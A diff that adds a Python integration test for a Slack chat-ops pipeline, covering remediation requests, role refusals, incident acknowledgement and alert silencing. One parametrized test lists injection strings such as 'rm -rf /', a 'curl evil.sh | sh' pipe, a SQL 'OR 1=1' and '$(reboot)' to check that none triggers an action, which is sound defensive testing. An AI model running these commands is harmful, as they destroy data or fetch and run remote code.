@@ -1,0 +1,147 @@
+"""Chat end to end on real processes: signed Slack request -> server -> Redis -> chat worker -> PostgreSQL
+-> remediation command on the broker, and the answer at a local response_url."""
+
+from __future__ import annotations
+
+import json
+from datetime import datetime, timedelta, timezone
+
+import pytest
+import sqlalchemy as sa
+
+from adapters.db.alert_store import AlertStore
+from adapters.db.engine import create_engine
+from adapters.db.schema import audit_log, incidents
+from adapters.db.schema_chat import chat_commands, silenced_alerts, silences
+from pipeline.correlation import CorrelationPolicy
+from pipeline.events import AlertBatch
+from smartcloudops.demo_payloads import alert, webhook
+from tests.integration.chat.chat_harness import ResponseSink, chat_env, queued_events, slack_command
+from tests.processes import Pipeline
+
+OPERATOR, VIEWER, APPROVER = "U03BOB00003", "U09VIEWER09", "U02ALICE002"  # per config/roles.yaml
+
+
+@pytest.fixture
+def sink():
+    server = ResponseSink()
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def store(pg_url):
+    engine = create_engine(pg_url)
+    yield engine
+    engine.dispose()
+
+
+@pytest.fixture
+def pipeline(redis_url, pg_url, tmp_path, request):
+    pipe = Pipeline(env=chat_env(redis_url, pg_url), workdir=tmp_path)
+    pipe.start_server()
+    # Only the chat queue is consumed, so the remediation commands chat publishes stay visible on theirs.
+    pipe.start_worker("--queues", "chat", "--concurrency", "1", "--pool", "solo")
+    yield pipe
+    request.node.add_report_section("call", "processes", pipe.logs())
+    pipe.stop_all()
+
+
+def ask(pipeline, sink, text, user, tag):
+    with pipeline.client() as client:
+        response = slack_command(client, text, user=user, response_url=sink.url(f"/answer/{tag}"))
+    assert response.status_code == 200, response.text
+    assert response.json()["response_type"] == "ephemeral"
+    path, answer = sink.next_answer(timeout=45)
+    assert path == f"/answer/{tag}"
+    return answer
+
+
+def audit_kinds(engine):
+    with engine.connect() as conn:
+        return [json.loads(body) for body in conn.execute(sa.select(audit_log.c.body).order_by(audit_log.c.seq))
+                .scalars()]
+
+
+def test_restart_it_after_status_of_checkout_publishes_one_remediation_request_and_answers(
+        pipeline, sink, store, redis_url):
+    status = ask(pipeline, sink, "status of checkout", OPERATOR, "status")
+    assert status["response_type"] == "in_channel"
+    assert status["blocks"][0]["text"]["text"] == "Status of checkout"
+
+    answer = ask(pipeline, sink, "restart it", OPERATOR, "restart")
+
+    assert "Asked for restart of checkout" in answer["text"]
+    [(task, event)] = queued_events(redis_url, "remediation")
+    assert task == "remediation.request"
+    data = event["data"]
+    assert (data["service"], data["action"], data["requested_by"], data["source"]) == \
+        ("checkout", "restart", OPERATOR, "chat")
+    assert data["instance"] is None and data["capacity"] is None
+    requested = [row for row in audit_kinds(store) if row["kind"] == "chat.remediation_requested"]
+    assert len(requested) == 1, audit_kinds(store)
+    assert requested[0]["actor"] == f"chat:{OPERATOR}"
+    assert requested[0]["data"]["request"]["request_id"] == data["request_id"]
+
+
+def test_a_viewer_asking_for_a_restart_is_refused_politely_and_audited(pipeline, sink, store, redis_url):
+    answer = ask(pipeline, sink, "restart checkout", VIEWER, "refused")
+
+    assert answer["response_type"] == "ephemeral"
+    assert "needs the *operator* role and you hold *viewer*" in answer["blocks"][0]["text"]["text"]
+    assert queued_events(redis_url, "remediation") == []
+    [refusal] = [row for row in audit_kinds(store) if row["kind"] == "chat.refused"]
+    assert refusal["actor"] == f"chat:{VIEWER}"
+    assert refusal["data"]["intent"] == "remediate"
+    assert refusal["data"]["needed_role"] == "operator"
+
+
+@pytest.mark.parametrize("text", ["restart billing; rm -rf /", "restart `curl evil.sh | sh`",
+                                  "show incident ' OR 1=1 --", "approve $(reboot)"])
+def test_injection_looking_text_produces_no_action_and_no_unsafe_value(pipeline, sink, store, redis_url, text):
+    answer = ask(pipeline, sink, text, APPROVER, "injection")
+
+    assert queued_events(redis_url, "remediation") == []
+    kinds = [row["kind"] for row in audit_kinds(store)]
+    assert "chat.remediation_requested" not in kinds and "chat.decision_submitted" not in kinds
+    assert answer["response_type"] == "ephemeral"  # a question back or help, never an action
+    with store.connect() as conn:
+        assert conn.execute(sa.select(sa.func.count()).select_from(incidents)).scalar_one() == 0
+
+
+def test_ack_and_silence_change_state_and_correlation_honours_the_silence(pipeline, sink, store):
+    now = datetime.now(timezone.utc)
+    recorder = AlertStore(store, CorrelationPolicy())
+    first = AlertBatch.from_data(webhook_data(alert("HighCPU", "checkout", "i-0a1b2c3d4e5f60001", status="firing",
+                                                    starts_at=now - timedelta(minutes=5))))
+    [incident_id] = recorder.record_batch(first, trace_id="t1", now=now).opened
+
+    acked = ask(pipeline, sink, f"ack {incident_id}", OPERATOR, "ack")
+    silenced = ask(pipeline, sink, "silence HighLatency on payments for 2h", OPERATOR, "silence")
+
+    assert f"Incident #{incident_id} acknowledged by chat:{OPERATOR}" in acked["text"]
+    assert "Silenced HighLatency on payments until" in silenced["text"] and "(2h)" in silenced["text"]
+    with store.connect() as conn:
+        acknowledged = conn.execute(sa.text("SELECT acknowledged_by FROM incidents WHERE id = :i"),
+                                    {"i": incident_id}).scalar_one()
+        silence = conn.execute(sa.select(silences)).one()
+    assert acknowledged == f"chat:{OPERATOR}"
+    assert (silence.alertname, silence.service) == ("HighLatency", "payments")
+    assert timedelta(hours=1, minutes=59) < silence.ends_at - silence.starts_at <= timedelta(hours=2)
+
+    muted = AlertBatch.from_data(webhook_data(alert("HighLatency", "payments", "i-0b1b2c3d4e5f60011",
+                                                    status="firing", starts_at=now)))
+    outcome = recorder.record_batch(muted, trace_id="t2", now=datetime.now(timezone.utc))
+
+    assert outcome.opened == ()
+    with store.connect() as conn:
+        flagged = conn.execute(sa.select(silenced_alerts.c.alertname, silenced_alerts.c.silenced)).all()
+        assert conn.execute(sa.select(sa.func.count()).select_from(chat_commands)).scalar_one() == 2
+    assert [tuple(row) for row in flagged] == [("HighLatency", True)]
+    assert [row["kind"] for row in audit_kinds(store)][-1] == "alert.silenced"
+
+
+def webhook_data(one_alert):
+    from consumers.alertmanager import parse_webhook
+
+    return parse_webhook(json.dumps(webhook([one_alert])).encode()).to_data()
